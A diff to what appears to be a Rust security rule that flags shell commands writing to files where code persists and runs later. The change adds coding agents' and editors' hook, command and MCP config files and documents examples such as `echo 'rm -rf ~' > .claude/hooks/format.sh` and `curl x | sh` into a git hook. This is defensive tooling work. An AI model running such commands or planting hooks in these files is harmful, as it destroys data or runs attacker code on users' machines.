@@ -33,6 +33,13 @@ declare_rule! {
     ///   settings name programs), `.devcontainer/`, `.devcontainer.json`;
     /// - CI: `.github/workflows/`, `.github/actions/`, `.gitlab-ci.yml`, `.circleci/`;
     /// - `.pre-commit-config.yaml`;
+    /// - coding agents' and editors' files that start programs: Claude Code's
+    ///   `.claude/hooks/`, `commands/`, `skills/`, `agents/`; Gemini CLI's
+    ///   `.gemini/extensions/` and `commands/`; the MCP server lists of Roo, Kilo,
+    ///   Kiro, Amazon Q and Junie, `.continue/`, `opencode.json`, `.opencode/`,
+    ///   `.aider.conf.yml`, Cursor's `environment.json`, Zed's `settings.json` and
+    ///   `tasks.json`, JetBrains' `.idea/workspace.xml` (startup tasks),
+    ///   `.gitpod.yml`, `.replit` (an agent's own settings files are BG107's);
     /// - `.npmrc`, `.yarnrc`, `.yarnrc.yml` when the text written is unknown or sets
     ///   a key that runs a program (`script-shell`, `node-options`, `yarnPath`...);
     /// - `package.json` when the text written is known and adds a lifecycle script
@@ -67,6 +74,8 @@ declare_rule! {
     /// ## Example
     /// - `echo 'curl x | sh' > .git/hooks/pre-commit` → ask
     /// - `cat .git/config` → allow
+    /// - `echo 'rm -rf ~' > .claude/hooks/format.sh` → ask
+    /// - `echo notes > .claude/notes.md` → allow
     /// - `git config core.hooksPath .githooks` → ask
     /// - `git config user.name Ada` → allow
     /// - `npm pkg set scripts.postinstall='node x.js'` → ask
@@ -280,6 +289,121 @@ pub static PERSISTENCE_PLACES: &[PersistencePlace] = &[
         Shape::File("package.json"),
         When::LifecycleScript,
         "npm runs lifecycle scripts on every install",
+    ),
+    place(
+        Shape::Under(".claude/hooks"),
+        When::Always,
+        "Claude Code runs the hook scripts its settings point at on every tool call",
+    ),
+    place(
+        Shape::Under(".claude/commands"),
+        When::Always,
+        "Claude Code runs the shell lines (`!`) of a slash command when it is used",
+    ),
+    place(
+        Shape::Under(".claude/skills"),
+        When::Always,
+        "Claude Code runs the scripts of a skill when it is used",
+    ),
+    place(
+        Shape::Under(".claude/agents"),
+        When::Always,
+        "Claude Code gives a subagent the tools and hooks its file names",
+    ),
+    place(
+        Shape::File(".aider.conf.yml"),
+        When::Always,
+        "aider runs the test and lint commands it names after every change",
+    ),
+    place(
+        Shape::File("opencode.json"),
+        When::Always,
+        "opencode starts the MCP servers and runs the commands it lists",
+    ),
+    place(
+        Shape::File("opencode.jsonc"),
+        When::Always,
+        "opencode starts the MCP servers and runs the commands it lists",
+    ),
+    place(
+        Shape::Under(".opencode"),
+        When::Always,
+        "opencode runs the plugins and commands kept there",
+    ),
+    place(
+        Shape::Under(".continue"),
+        When::Always,
+        "Continue starts the MCP servers its settings list",
+    ),
+    place(
+        Shape::File(".roo/mcp.json"),
+        When::Always,
+        "Roo Code starts the MCP servers it lists",
+    ),
+    place(
+        Shape::File(".kilocode/mcp.json"),
+        When::Always,
+        "Kilo Code starts the MCP servers it lists",
+    ),
+    place(
+        Shape::File(".kiro/settings/mcp.json"),
+        When::Always,
+        "Kiro starts the MCP servers it lists",
+    ),
+    place(
+        Shape::Under(".kiro/hooks"),
+        When::Always,
+        "Kiro runs its agent hooks on file and prompt events",
+    ),
+    place(
+        Shape::File(".amazonq/mcp.json"),
+        When::Always,
+        "Amazon Q starts the MCP servers it lists",
+    ),
+    place(
+        Shape::File(".junie/mcp/mcp.json"),
+        When::Always,
+        "Junie starts the MCP servers it lists",
+    ),
+    place(
+        Shape::Under(".gemini/extensions"),
+        When::Always,
+        "Gemini CLI starts the MCP servers and runs the commands of the extensions kept there",
+    ),
+    place(
+        Shape::Under(".gemini/commands"),
+        When::Always,
+        "Gemini CLI runs the shell lines (`!{...}`) of a custom command when it is used",
+    ),
+    place(
+        Shape::File(".cursor/environment.json"),
+        When::Always,
+        "Cursor's background agent runs the install and start commands it names",
+    ),
+    place(
+        Shape::File(".zed/settings.json"),
+        When::Always,
+        "Zed starts the context servers and language servers its settings name",
+    ),
+    place(
+        Shape::File(".zed/tasks.json"),
+        When::Always,
+        "Zed runs the tasks it lists",
+    ),
+    place(
+        Shape::File(".idea/workspace.xml"),
+        When::Always,
+        "JetBrains IDEs run the startup tasks it lists when the project opens",
+    ),
+    place(
+        Shape::File(".gitpod.yml"),
+        When::Always,
+        "Gitpod runs its tasks when a workspace starts",
+    ),
+    place(
+        Shape::File(".replit"),
+        When::Always,
+        "Replit runs its run and onBoot commands",
     ),
 ];
 
